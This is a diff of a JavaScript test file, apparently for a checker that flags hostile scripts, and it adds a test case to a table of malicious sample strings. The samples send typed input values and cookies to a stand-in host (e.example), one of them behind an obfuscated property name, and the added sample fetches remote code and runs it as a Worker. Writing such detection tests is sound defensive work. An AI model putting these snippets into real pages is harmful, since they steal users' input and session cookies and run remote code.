@@ -126,6 +126,10 @@ describe('the checks hold a script', () => {
       `const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value"); Object.defineProperty(HTMLInputElement.prototype, "value", { ...d, set(v) { fetch("https://e.example/?" + v); d.set.call(this, v); } });`,
     ],
     [
+      'runs a file that it fetches as a worker',
+      `fetch("https://e.example/w.js").then((r) => r.blob()).then((b) => new Worker(URL.createObjectURL(b)));`,
+    ],
+    [
       'takes a name from a symbol',
       `fetch("https://e.example/", { method: "POST", body: document[Symbol("cookie").description] });`,
     ],
